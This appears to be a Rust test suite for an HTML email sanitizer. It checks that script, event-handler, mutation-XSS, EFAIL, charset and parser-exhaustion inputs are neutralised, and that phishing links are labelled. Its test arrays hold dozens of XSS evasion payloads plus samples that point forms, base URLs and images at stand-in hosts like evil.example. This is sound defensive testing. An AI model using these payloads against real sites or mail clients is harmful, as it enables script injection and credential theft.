use super::*;
use policy::html::{Family, Links};
use proptest::prelude::*;
use std::time::Duration;

fn shipped() -> HtmlFilter {
    HtmlFilter::new("safe")
}

fn all_kept() -> HtmlFilter {
    HtmlFilter {
        scripts: Family::Keep,
        event_handlers: Family::Keep,
        frames: Family::Keep,
        objects: Family::Keep,
        forms: Family::Keep,
        links: Links::Keep,
        macros: Family::Keep,
        ..shipped()
    }
}

fn all_removed() -> HtmlFilter {
    HtmlFilter { styles: Family::Remove, remote_images: Family::Remove, links: Links::Remove, ..shipped() }
}

/// Filters text twice, which must be the same as once.
fn filtered(input: &str, rules: &HtmlFilter) -> (String, Removed) {
    let once = filter(input.as_bytes(), Some("utf-8"), rules);
    let twice = filter(&once.bytes, Some("utf-8"), rules);
    let text = String::from_utf8(once.bytes.clone()).expect("UTF-8");
    assert_eq!(String::from_utf8(twice.bytes).expect("UTF-8"), text, "{input}");
    assert!(!twice.changed);
    (text, once.removed)
}

fn safe(input: &str) -> String {
    filtered(input, &shipped()).0
}

/// Nothing in it can run, whoever reads it.
fn assert_inert(html: &str, input: &str) {
    let lower = html.to_ascii_lowercase();
    for active in
        ["<script", "<iframe", "<object", "<embed", "<svg", "<math", "<base", "<form", "<link", "<!--"]
    {
        assert!(!lower.contains(active), "{active} in {html} of {input}");
    }
    let mut rest = lower.as_str();
    while let Some((_, tag)) = rest.split_once('<') {
        let mut quoted = false;
        let end = tag
            .find(|c| {
                quoted ^= c == '"';
                c == '>' && !quoted
            })
            .unwrap_or(tag.len());
        let (tag, after) = tag.split_at(end);
        let outside: String = tag.split('"').step_by(2).collect();
        assert!(!outside.contains(" on"), "{tag} of {input}");
        for value in tag.split('"').skip(1).step_by(2) {
            let value: String = value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
            assert!(!value.starts_with("javascript:") && !value.starts_with("vbscript:"), "{tag} of {input}");
            assert!(!value.starts_with("data:text/html"), "{tag} of {input}");
        }
        rest = after;
    }
}

const EVASIONS: [&str; 34] = [
    "<script>alert(1)</script>",
    "<script src=x",
    "<SCRIPT/x>alert(1)</SCRIPT >",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src='x' oNeRrOr=alert(1)>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#x6a;avascript&colon;alert(1)\">x</a>",
    "<a href=' \u{1}javascript:alert(1)'>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object><embed src=x.swf>",
    "<body onload=alert(1)><body onfocus=alert(2)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=http://evil.example/><a href=x>y</a>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<form action=http://evil.example/><input name=password type=password><button>ok</button></form>",
    "<div style=\"width:expression(alert(1));background:url(javascript:alert(1))\">x</div>",
    "<style>a{-moz-binding:url(x)}</style><style>@import 'http://evil.example/a'</style>",
    "<textarea><img src=x onerror=alert(1)></textarea><xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--[if mso]><script>alert(1)</script><![endif]--><![if !mso]><b>x</b><![endif]>",
    "<p><a title='a`onmouseover=alert(1)'>x",
    "<plaintext><script>alert(1)</script>",
    "<select><style><img src=x onerror=alert(1)></style></select><frameset onload=alert(1)><frame src=javascript:alert(1)>",
];

#[test]
fn classic_evasions_come_out_inert() {
    for input in EVASIONS {
        assert_inert(&safe(input), input);
        assert_inert(&filtered(input, &all_removed()).0, input);
    }
}

#[test]
fn svg_and_mathml_never_come_back_after_a_second_reading() {
    // RUSTSEC-2026-0193 and its kind: an element that is HTML when it is filtered and is none when it is read again.
    for input in [
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<svg><foreignObject><math><mi><svg><style><a title=\"</style><img src=x onerror=alert(1)>\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<table><svg><desc><td><script>alert(1)</script>",
    ] {
        for rules in [shipped(), all_kept(), all_removed()] {
            let text = filtered(input, &rules).0;
            assert!(!text.contains("<svg") && !text.contains("<math"), "{text}");
            assert!(!text.contains("onerror=\"alert") || rules == all_kept(), "{text}");
        }
    }
}

#[test]
fn an_attribute_that_never_ends_takes_nothing_of_the_next_part_with_it() {
    // EFAIL: the image's address would swallow what a reader puts behind this part.
    for input in [
        "<img src=\"http://efail.example/",
        "<p>x</p><img src='http://efail.example/",
        "<a href=\"http://efail.example/?",
        "<style>a{background:url(http://efail.example/",
        "<textarea>",
        "<!--",
        "<title>",
        "<iframe src=http://efail.example/ srcdoc='",
    ] {
        let text = safe(input);
        let plaintext = format!("{text}secret");
        let read = safe(&plaintext);
        assert!(read.ends_with("secret") || read.ends_with("secret</p>"), "{text} then {read}");
    }
}

#[test]
fn honest_mail_stays_as_it_looks() {
    let (text, removed) = filtered(
        "<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>Hi</title>\
         <style>p { color: #333; }</style></head><body bgcolor=\"#ffffff\">\r\n<table width=\"100%\"><tr><td align=\"left\">\
         <p style=\"margin:0\">Caf\u{e9} &amp; <b>cake</b></p><img src=\"cid:logo@example.net\" alt=\"logo\">\
         </td></tr></table></body></html>",
        &shipped(),
    );
    assert_eq!(
        text,
        "<!DOCTYPE html><html lang=\"en\"><title>Hi</title><style>p { color: #333; }</style>\
         <body bgcolor=\"#ffffff\">\r\n<table width=\"100%\"><tbody><tr><td align=\"left\">\
         <p style=\"margin:0\">Caf\u{e9} &amp; <b>cake</b></p><img src=\"cid:logo@example.net\" alt=\"logo\">\
         </td></tr></tbody></table></body></html>"
    );
    assert!(removed.is_empty(), "{removed:?}");
}

#[test]
fn each_family_is_removed_and_counted_or_kept() {
    type Count = fn(&Removed) -> u32;
    let cases: [(&str, &str, Count); 6] = [
        ("<script>a()</script>", "<script>a()</script>", |removed| removed.scripts),
        ("<p onclick=\"a()\">x</p>", "onclick=\"a()\"", |removed| removed.event_handlers),
        ("<iframe src=\"https://a.example/\"></iframe>", "<iframe src=\"https://a.example/\">", |removed| {
            removed.frames
        }),
        ("<object data=\"https://a.example/x\">old</object>", "<object data=", |removed| removed.objects),
        ("<form action=\"https://a.example/\"><p>x</p></form>", "<form action=", |removed| removed.forms),
        ("<p style=\"color:red\">x</p>", "style=\"color:red\"", |removed| removed.styles),
    ];
    for (input, kept, count) in cases {
        let (with, removed) = filtered(input, &all_kept());
        assert!(with.contains(kept), "{with}");
        assert_eq!(count(&removed), 0, "{input}");
        let (without, removed) = filtered(input, &all_removed());
        assert!(!without.contains(kept), "{without}");
        assert_eq!(count(&removed), 1, "{input}: {removed:?}");
        assert!(!removed.describe().is_empty());
    }
}

#[test]
fn images_from_elsewhere_go_and_those_of_the_mail_stay() {
    let input = "<img src=\"https://a.example/1.gif\" alt=\"one\" srcset=\"https://a.example/2.gif 2x\">\
                 <img src=\"cid:two\"><img src=\"data:image/gif;base64,R0lGOD\"><td background=//a.example/b>\
                 <p style=\"background:url(https://a.example/4.gif)\">x</p>";
    let rules = HtmlFilter { remote_images: Family::Remove, ..shipped() };
    let (text, removed) = filtered(input, &rules);
    assert!(!text.contains("a.example"), "{text}");
    assert!(
        text.contains("alt=\"one\"") && text.contains("cid:two") && text.contains("data:image/gif"),
        "{text}"
    );
    assert_eq!(removed.remote_images, 2, "{text}");
    assert!(filtered(input, &shipped()).0.contains("https://a.example/1.gif"));
}

#[test]
fn links_show_where_they_lead_once() {
    let text = safe(
        "<a href=\"https://evil.example/login\" title=\"https://bank.example\">https://bank.example</a>.",
    );
    assert_eq!(text, "<a href=\"https://evil.example/login\">https://bank.example</a> [evil.example].");
    assert_eq!(
        safe("<a href=\"http://example.net/\">example.net</a>"),
        "<a href=\"http://example.net/\">example.net</a>"
    );
    assert_eq!(
        safe("<a href=\"mailto:a@example.net\">a@example.net</a>"),
        "<a href=\"mailto:a@example.net\">a@example.net</a>"
    );
    assert_eq!(
        safe("<table><tr><td><a href=\"https://a.example/x\"><img src=\"cid:y\"></a></td></tr></table>"),
        "<table><tbody><tr><td><a href=\"https://a.example/x\"><img src=\"cid:y\"></a> [a.example]</td></tr></tbody></table>"
    );
    // What can hide the text, or stand in its place, leaves it unsaid where the link leads.
    for hidden in [
        "<span style=\"font-size:0\">evil.example</span><img src=\"cid:bank\">",
        "<span style=\"font-size:0\">evil.example</span>",
        "evil.example<img src=\"cid:bank\">",
    ] {
        let link = format!("<a href=\"https://evil.example/\">{hidden}</a>");
        assert_eq!(safe(&link), format!("{link} [evil.example]"));
    }
    let plain = "<a href=\"https://evil.example/\"><b>evil.example</b></a>";
    assert_eq!(safe(plain), plain);
    // Header fields can say where an address without a machine leads.
    for (address, shown) in [("login.php", "login.php"), ("//evil.example/x", "evil.example"), ("/x", "/x")] {
        let link = format!("<a href=\"{address}\">bank</a>");
        assert_eq!(safe(&link), format!("{link} [{shown}]"));
    }
    assert_eq!(safe("<a href=\"#top\">up</a>"), "<a href=\"#top\">up</a>");
    let (text, removed) = filtered("<p><img src=\"pixel.gif\">x</p>", &all_removed());
    assert_eq!((text.as_str(), removed.remote_images), ("<p><img>x</p>", 1));
    let (text, removed) = filtered("<p><a href=\"https://a.example/\">x</a></p>", &all_removed());
    assert_eq!((text.as_str(), removed.links), ("<p>x</p>", 1));
}

#[test]
fn documents_within_attributes_are_filtered_as_documents() {
    let rules = HtmlFilter { frames: Family::Keep, ..shipped() };
    for input in [
        "<iframe srcdoc=\"<p>in</p><script>alert(1)</script>\"></iframe>",
        "<iframe src=\"data:text/html,<p>in</p><script>alert(1)</script>\"></iframe>",
        "<iframe src=\"data:text/html;base64,PHA+aW48L3A+PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>",
    ] {
        let (text, removed) = filtered(input, &rules);
        assert_eq!(removed.scripts, 1, "{text}");
        assert!(text.contains("&lt;p&gt;in&lt;/p&gt;") || text.contains("base64,PHA+aW48L3A+\""), "{text}");
    }
    let mut nested = "<script>alert(1)</script>".to_owned();
    for _ in 0..5 {
        nested =
            format!("<iframe srcdoc=\"{}\"></iframe>", nested.replace('&', "&amp;").replace('"', "&quot;"));
    }
    assert!(!filtered(&nested, &rules).0.contains("alert"));
}

#[test]
fn a_charset_hides_nothing() {
    let input = b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>a+ACY-b</p>";
    let once = filter(input, Some("utf-7"), &shipped());
    let text = String::from_utf8(once.bytes).expect("ASCII");
    assert!(!text.contains('+') && !text.contains("alert"), "{text}");
    assert_eq!(once.removed.scripts, 1);
    let wide: Vec<u8> = "<script>x</script><p>\u{e9}".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let bytes = filter(&wide, Some("utf-16le"), &shipped()).bytes;
    assert!(memchr::memmem::find(&bytes, b"s\0c\0r").is_none());
    let none = filter("<p>\u{e9}".as_bytes(), None, &shipped());
    assert_eq!(none.bytes, b"<p>&#233;</p>");
    let latin = filter(b"<p>\xe9</p>", Some("iso-8859-1"), &shipped());
    assert!(!latin.changed);
}

/// Of this thread: what else runs on the machine does not count.
fn processor_time() -> Duration {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").expect("the kernel counts");
    Duration::from_nanos(text.split(' ').next().and_then(|text| text.parse().ok()).expect("nanoseconds"))
}

#[test]
fn bombs_become_their_text_in_time() {
    let formatting: String = (0..1000).map(|n| format!("<b title={n:030}><p>")).collect();
    let bombs = [
        ("formatting", formatting),
        ("depth", "<div>".repeat(200_000)),
        ("unclosed tables", "<table><td></div><div>".repeat(10_000)),
        ("attributes", format!("<p {}>x", (0..60_000).map(|n| format!("a{n:x} ")).collect::<String>())),
        ("formatting attributes", {
            let attributes: String = (0..2000).map(|n| format!(" a{n:x}")).collect();
            format!("<b{attributes}>{}", "<b></b>".repeat(20_000))
        }),
        ("templates", "<template>".repeat(50_000)),
        ("open links", "<a href=x><table>".repeat(20_000)),
        ("ampersands", "&".repeat(300_000)),
        ("misnested", "<b><i><u><p></b></i></u>".repeat(8000)),
    ];
    for (name, bomb) in bombs {
        let input = format!("{bomb}last words");
        let begun = processor_time();
        let output = filter(input.as_bytes(), Some("utf-8"), &shipped());
        let took = processor_time() - begun;
        assert!(output.bytes.len() <= input.len() * GROWTH + SPARE, "{name}: {} octets", output.bytes.len());
        eprintln!("{name}: {took:?}, {} octets to {}", input.len(), output.bytes.len());
        assert!(took < Duration::from_secs(20), "{name}: {took:?}");
        let text = String::from_utf8(output.bytes).expect("UTF-8");
        assert!(text.contains("last words") || name == "ampersands", "{name}: {}", text.len());
    }
}

#[test]
fn text_alone_is_the_text_and_no_more() {
    let input = format!(
        "{}<p>one &eacute;</p><script>two</script>three &amp; <a href='four'>five</a>",
        "<div>".repeat(400)
    );
    let (text, removed) = filtered(&input, &shipped());
    assert!(removed.text_only);
    assert_eq!(text.trim_start_matches("<pre>").trim_start(), "one \u{e9}\nthree &amp; five</pre>");
}

/// Pieces that parsers stumble over.
const PIECES: [&str; 40] = [
    "<b>",
    "</b>",
    "<p>",
    "</p>",
    "<table>",
    "</table>",
    "<td>",
    "<tr>",
    "<a href=http://a.example/>",
    "</a>",
    "<svg>",
    "</svg>",
    "<math>",
    "<mtext>",
    "<style>",
    "</style>",
    "<title>",
    "</title>",
    "<form>",
    "</form>",
    "<select>",
    "<option>",
    "<template>",
    "</template>",
    "<noscript>",
    "<iframe srcdoc='<b>",
    "'>",
    "<!--",
    "-->",
    "text",
    "<pre>\n\n",
    "<script>",
    "</script>",
    "&lt;",
    "\"",
    "<li>",
    "<nobr>",
    "<frameset>",
    "<img src=x onerror=alert(1)>",
    "<i title='",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn whatever_goes_in_what_comes_out_stays_as_it_is(
        pieces in prop::collection::vec(prop::sample::select(PIECES.to_vec()), 0..40)
    ) {
        let input = pieces.concat();
        assert_inert(&safe(&input), &input);
        filtered(&input, &all_kept());
        filtered(&input, &all_removed());
    }

    #[test]
    fn octets_of_any_charset_do_not_matter(input in prop::collection::vec(any::<u8>(), 0..400), label in 0..7_usize) {
        let labels = [None, Some("utf-8"), Some("utf-7"), Some("iso-2022-jp"), Some("utf-16"), Some("gb18030"), Some("x-none")];
        let charset = labels.get(label).copied().flatten();
        let once = filter(&input, charset, &shipped());
        prop_assert_eq!(&filter(&once.bytes, charset, &shipped()).bytes, &once.bytes);
    }
}
